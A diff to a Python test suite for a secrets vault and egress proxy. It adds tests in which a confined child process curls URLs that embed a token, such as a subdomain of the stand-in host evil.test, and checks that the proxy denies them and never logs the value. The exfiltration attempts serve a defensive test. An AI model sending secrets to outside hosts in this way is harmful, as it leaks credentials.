@@ -1,5 +1,6 @@
 """The vault of a live run: placeholders inside, values at the host they are for, and nowhere else on this machine."""
 
+import json
 import os
 import re
 import signal
@@ -266,7 +267,7 @@ def test_new_values_without_a_new_start(lab: Lab, open_path: Path, token: Path) 
         wait_for(lambda: len(vaults(live.supervisor.pid)) == 1)
         token.write_text("")
         said = run(lab, open_path, "secrets", "reload", "--run", live.directory.name)
-        assert said.returncode == 1 and "stay in force" in said.stdout, said
+        assert said.returncode == 1 and "stay in force" in said.stdout and "\n  hint: " in said.stdout, said
         live.tell("")
         assert live.line() == first
         live.end()
@@ -344,7 +345,7 @@ def test_the_commands_print_no_value(lab: Lab, open_path: Path, home: Path, toke
     assert listed.returncode == checked.returncode == tried.returncode == 0, (listed, checked, tried)
     assert "header authorization" in listed.stdout and "$TOKEN" in listed.stdout and "~/.netrc" in listed.stdout
     assert "32 to 63 characters, begins with `ghp_`" in checked.stdout
-    assert "200  accepted" in tried.stdout
+    assert "200  no proof: the host answers the same without it" in tried.stdout
     assert authorizations(lab.since(mark, "http")) == [f"Bearer {VALUE}"]
     for done in (listed, checked, tried):
         assert VALUE not in done.stdout + done.stderr and HALVES[1] not in done.stdout
@@ -384,6 +385,52 @@ def test_what_looks_like_a_secret_waits_for_the_operator(lab: Lab, open_path: Pa
         live.end()
     assert [one["fields"]["verdict"] for one in live.events("decision") if one["code"] == "secret-asked"] == [verb]
     assert bool(lab.since(mark, "http")) == (verb == "allow")
+
+
+URL = """
+import subprocess, sys
+print("ready", flush=True)
+for line in sys.stdin:
+    done = subprocess.run(["curl", "-sS", "-m9", line.strip()], capture_output=True, text=True)
+    print(" ".join((done.stdout + done.stderr).split()), flush=True)
+"""
+
+
+def told(live: Running) -> str:
+    """What is recorded of what was refused and passed, without capitals: names have none."""
+    return json.dumps([one["fields"] for one in live.events("denial", "egress", "taint", "connect")]).lower()
+
+
+def test_no_record_holds_a_value(lab: Lab, open_path: Path, token: Path) -> None:
+    """It is inside all the same; what is sent stands in records of the proxy, which knows no value."""
+    options = policy(open_path, kept_in(token), "[leaks]")
+    with running(lab, open_path, [PYTHON, "-c", URL], *options) as live:
+        assert live.line() == "ready"
+        for url in (f"https://{GOOD}/{VALUE}", f"http://{OTHER}/a%20b/{VALUE}", f"https://{VALUE}.evil.test/"):
+            live.tell(url)
+            live.line()
+        wait_for(lambda: "evil.test" in told(live))
+        _, said = live.end()
+    assert VALUE.lower() not in told(live) and VALUE.lower() not in said.lower()
+    paths = [str(one["fields"].get("path", "")) for one in live.events("denial", "egress")]
+    assert any(re.fullmatch(r"/ghp_\w{32}", path) for path in paths)
+    assert live.events("exit")
+
+
+@pytest.mark.parametrize("number", [signal.SIGSTOP, signal.SIGKILL])
+def test_without_the_vault_a_record_is_there_all_the_same(lab: Lab, open_path: Path, token: Path, number: int) -> None:
+    with running(lab, open_path, [PYTHON, "-c", URL], *policy(open_path, kept_in(token))) as live:
+        assert live.line() == "ready"
+        os.kill(confined_vault(live), number)
+        for url in (f"https://{VALUE}.evil.test/", "https://other.evil.test/"):
+            live.tell(url)
+            assert "403" in live.line()
+        live.end()
+    denials = live.events("denial")
+    assert [(one["code"], one["fields"]["target"]) for one in denials] == [("egress-denied", "withheld")] * len(denials)
+    assert len(denials) >= 2 and VALUE.lower() not in told(live)
+    kinds = [one["kind"] for one in live.events("denial", "exit")]
+    assert kinds[-1] == "exit"
 
 
 SDK = f"""
